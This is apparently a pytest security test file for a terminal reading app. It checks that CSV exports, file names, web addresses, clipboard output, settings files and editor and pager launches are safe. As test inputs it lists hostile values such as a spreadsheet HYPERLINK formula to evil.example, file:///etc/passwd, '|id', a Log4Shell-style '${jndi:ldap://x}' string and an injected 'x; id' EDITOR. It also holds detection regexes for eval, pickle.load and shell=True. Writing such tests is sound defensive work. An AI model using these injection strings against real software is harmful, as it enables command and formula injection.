"""Rows G of the security bar: what goes out to files and programs, and what comes in from settings."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.security.corpora import BAD, filled, needs_bad_inputs, report
from tests.security.session import Session
from tui import cli
from tui.app import themes
from tui.app.clipboard import LARGEST, osc52
from tui.app.editor import editor_command
from tui.app.files_written import file_name, write_new
from tui.app.keys import read_keys
from tui.app.programs import browser_command, command_of
from tui.errors import SettingsError
from tui.ingest.web_address import web_address
from tui.settings import Settings, load
from tui.store import read
from tui.store.connect import connect
from tui.store.write import put_article

_FORMULAS = ("=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example")')


@pytest.mark.parametrize("title", _FORMULAS)
def test_g1_formulas(title: str, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    """G1: no cell of a CSV export is a formula; JSONL has the words as they are."""
    source = tmp_path / "in.jsonl"
    record = {"id": title, "title": title, "text": "x", "source": title, "authors": [title]}
    source.write_text(json.dumps(record) + "\n")
    call = ["--corpus", str(tmp_path / "corpus.db"), "export", str(source), "--format"]
    assert cli.run([*call, "csv"]) == 0
    for row in csv.reader(io.StringIO(capfdbinary.readouterr().out.decode())):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert cli.run([*call, "jsonl"]) == 0
    assert json.loads(capfdbinary.readouterr().out)["title"] == title.strip()


@pytest.mark.parametrize(
    "title",
    ["../../x", "/etc/x", "CON", "nul.txt", "a" * 300, "a\0b", "..", "", "-rf", "x/../../y", "\u202egpj.exe"],
)
def test_g2_titles_as_names(title: str, tmp_path: Path) -> None:
    """G2: whatever a title says, its file lies in the folder, is new, and is its user's alone."""
    (tmp_path / "out").mkdir()
    first = write_new(tmp_path / "out", file_name(title, ".md"), ["one"])
    second = write_new(tmp_path / "out", file_name(title, ".md"), ["two"])
    for path in (first, second):
        assert path.parent == tmp_path / "out"
        assert re.fullmatch(r"\w[\w.-]*\.md", path.name)
        assert not re.match(r"(?i)(con|nul)[.-]", path.name)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert (first.read_text(), second.read_text()) == ("one", "two")


@needs_bad_inputs
def test_g3_attachments(tmp_path: Path) -> None:
    """G3: the name of an attachment is never a path: taking a mail in makes no file but the corpus."""
    home = Path.home()
    before = set(home.rglob(".ssh/*"))
    folder = tmp_path / "a" / "b" / "c"
    folder.mkdir(parents=True)
    mail = BAD / "mail" / "attach_traversal.eml"
    assert cli.run(["--corpus", str(folder / "corpus.db"), "add", str(mail)]) in (0, 3)
    made = {path.name for path in tmp_path.rglob("*") if path.is_file()}
    assert {name.split(".db")[0] for name in made} == {"corpus"}
    assert set(home.rglob(".ssh/*")) == before


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "exec:id",
        "|id",
        "-e id",
        "//evil/x",
        "ssh://x",
    ],
)
def test_g4_addresses(address: str) -> None:
    """G4: only http and https are addresses at all."""
    assert web_address(address) is None


def test_g4_no_shell(tmp_path: Path) -> None:
    """G4: an address is one argument of the program, whatever it holds; no shell sees it."""
    told = tmp_path / "told"
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\nprintf "%s\\n" "$#" "$1" > {told}\n')
    browser.chmod(0o700)
    assert browser_command([], {"BROWSER": f"{browser} %s"}) == [str(browser)]
    assert command_of("a 'b c' \"d;e\" `f` $(g)", "x") == ["a", "b c", "d;e", "`f`", "$(g)"]
    for file in (Path(__file__).resolve().parents[2] / "tui").rglob("*.py"):
        assert "shell=True" not in file.read_text("utf-8")
        assert not re.search(r"\bos\.(system|popen)\(", file.read_text("utf-8"))


@given(st.text(max_size=500))
def test_g5_copies(text: str) -> None:
    """G5: what goes to the clipboard is base64 and nothing else, of text that acts on no terminal."""
    written = osc52(text)
    found = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", written)
    assert found
    copied = base64.b64decode(found[1]).decode()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", copied)
    assert len(copied.encode()) <= LARGEST


@needs_bad_inputs
def test_g6_format_strings(tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    """G6: what looks like a template is text everywhere."""
    words = r"%s %n {0.__class__} ${jndi:ldap://x} $(id) `id`"
    corpus = ["--corpus", str(tmp_path / "corpus.db")]
    con = connect(tmp_path / "corpus.db")
    put_article(con, report(1, title=words), content_key="1")
    con.close()
    for call in (
        ["list"],
        ["show", report(1).id],
        ["export", "--format", "jsonl"],
        ["export", "--format", "csv"],
    ):
        assert cli.run([*corpus, *call]) == 0
        assert words.encode() in capfdbinary.readouterr().out


@pytest.mark.slow
def test_g7_the_start_goes_on(tmp_path: Path) -> None:
    """G7: with wrong settings, keys and a wrong theme each is named, and the reader opens."""
    config = tmp_path / "config" / "copytaster"
    (config / "themes").mkdir(parents=True)
    (config / "config.toml").write_text('reading_width = "wide"\nno_such = 1\ntheme = ["x"]\n')
    (config / "keys.toml").write_text('down = 3\nno_such_action = "x"\nopen = "j"\n')
    (config / "themes" / "bad.toml").write_text('name = "bad"\n[styles]\nperson = "no such colour"\n')
    variables = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    with Session(filled(tmp_path / "corpus.db"), variables=variables) as session:
        session.until("Report 4")
        assert session.process.poll() is None
        assert session.end() == 143
    listed = subprocess.run(
        [sys.executable, "-m", "tui", "--corpus", str(tmp_path / "corpus.db"), "list"],
        env={**os.environ, **variables},
        capture_output=True,
        text=True,
        check=True,
    )
    assert listed.stdout.count("\n") == 5
    assert "reading_width" in listed.stderr
    assert "no_such" in listed.stderr


def test_g7_foreign_and_huge(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """G7: a file that is another user's, huge, nested without end or a pipe is not used, and named."""
    file = tmp_path / "config.toml"
    contents = {"huge": "# " + "x" * 1_000_000, "deep": "a = " + "[" * 50_000, "not text": "\udcff"}
    for content in contents.values():
        file.write_text(content, "utf-8", "surrogateescape")
        assert load(file).settings == Settings()
        assert load(file).problems
        assert read_keys(file).complaints
        with pytest.raises(SettingsError):
            themes.read_theme(file)
    file.write_text("mouse = false\n")
    monkeypatch.setattr(os, "getuid", lambda: file.stat().st_uid + 1)
    if file.stat().st_uid:
        assert load(file).settings == Settings()
        assert read_keys(file).complaints
    pipe = tmp_path / "keys.toml"
    os.mkfifo(pipe)
    assert read_keys(pipe).remapped == {}


def test_g7_settings_run_nothing() -> None:
    """G7: settings, keymaps and themes are data: nothing in the program evaluates text."""
    for file in (Path(__file__).resolve().parents[2] / "tui").rglob("*.py"):
        if "train" in file.parts:  # what makes the models: no user runs it
            continue
        text = file.read_text("utf-8")
        assert not re.search(
            r"(?<![\w.])(?:eval|exec)\(|\b(?:pickle|marshal|shelve)\.load|yaml\.load", text
        ), file


def test_g8_no_secrets_in_logs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """G8: a password in an address is in no message, list or log (rows D12 hold the network's part)."""
    address = "https://reader:s3cret@127.0.0.1:1/feed"
    cli.run(["--corpus", str(tmp_path / "corpus.db"), "add", address])
    cli.run(["--corpus", str(tmp_path / "corpus.db"), "sources"])
    cli.run(["--corpus", str(tmp_path / "corpus.db"), "doctor"])
    said = capsys.readouterr()
    assert "s3cret" not in said.out + said.err
    con = connect(tmp_path / "corpus.db")
    assert "s3cret" not in "".join(map(str, read.refusals(con)))
    con.close()


def test_g9_editor_and_pager(monkeypatch: pytest.MonkeyPatch) -> None:
    """G9: EDITOR is split into words and run without a shell; less runs with its dangerous half off."""
    assert editor_command({"EDITOR": "x; id"}) == ["x;", "id"]
    source = (Path(__file__).resolve().parents[2] / "tui" / "app" / "programs.py").read_text("utf-8")
    assert '"LESSSECURE": "1"' in source
    from tui.app import programs  # noqa: PLC0415

    monkeypatch.setenv("LESSOPEN", "|id %s")
    assert programs._environment()["LESSSECURE"] == "1"
